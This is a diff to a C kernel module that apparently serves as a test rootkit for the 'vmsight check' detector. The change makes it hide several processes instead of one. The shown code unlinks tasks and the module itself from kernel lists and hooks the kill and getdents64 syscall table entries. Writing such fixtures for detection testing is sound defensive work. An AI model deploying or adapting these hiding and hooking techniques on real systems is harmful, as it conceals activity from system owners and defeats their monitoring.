@@ -3,8 +3,9 @@
  * A test rootkit for `vmsight check`: it hides what public rootkits hide, the way they hide it.
  * Loaded only in the "rootkit" variant of the test guest (guests/init), never anywhere else.
  *
- *  - unlinks one process (module parameter hide_pid) from the task list (task_struct.tasks);
- *    it stays in the PID namespace, so /proc still shows it;
+ *  - unlinks processes (module parameter hide_pids=PID,PID…) from the task list
+ *    (task_struct.tasks); they stay in the PID namespace, so /proc still shows them, and a
+ *    runnable one stays on its runqueue;
  *  - unlinks itself from the module list (THIS_MODULE->list); it stays in sysfs and in module
  *    memory;
  *  - overwrites sys_call_table[__NR_kill] and [__NR_getdents64] (and the same calls in the
@@ -26,8 +27,9 @@
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("vmsight test rootkit: hides a process and itself, hooks syscalls");
 
-static int hide_pid;
-module_param(hide_pid, int, 0);
+static int hide_pids[4];
+static int hide_count;
+module_param_array(hide_pids, int, &hide_count, 0);
 
 typedef unsigned long (*lookup_fn)(const char *name);
 typedef long (*syscall_fn)(const struct pt_regs *);
@@ -75,7 +77,7 @@ static void hook(unsigned long *table, const char *name, int nr, void *fn)
 }
 
 /* tasklist_lock is not exported either: it too comes from kallsyms_lookup_name. */
-static void hide_task(rwlock_t *tasklist)
+static void hide_task(rwlock_t *tasklist, int hide_pid)
 {
 	struct task_struct *task;
 
@@ -102,6 +104,7 @@ static int __init rk_init(void)
 {
 	lookup_fn lookup = find_lookup();
 	unsigned long *table;
+	int i;
 
 	if (!lookup) {
 		pr_info("VMSIGHT-RK error=no-kallsyms_lookup_name\n");
@@ -118,8 +121,8 @@ static int __init rk_init(void)
 		hook(table, "ia32_sys_call_table", 37, rk_kill);
 		hook(table, "ia32_sys_call_table", 220, rk_getdents64);
 	}
-	if (hide_pid > 0)
-		hide_task((rwlock_t *)lookup("tasklist_lock"));
+	for (i = 0; i < hide_count; i++)
+		hide_task((rwlock_t *)lookup("tasklist_lock"), hide_pids[i]);
 	list_del(&THIS_MODULE->list);
 	pr_info("VMSIGHT-RK hid-module name=%s\n", THIS_MODULE->name);
 	pr_info("VMSIGHT-RK done\n");
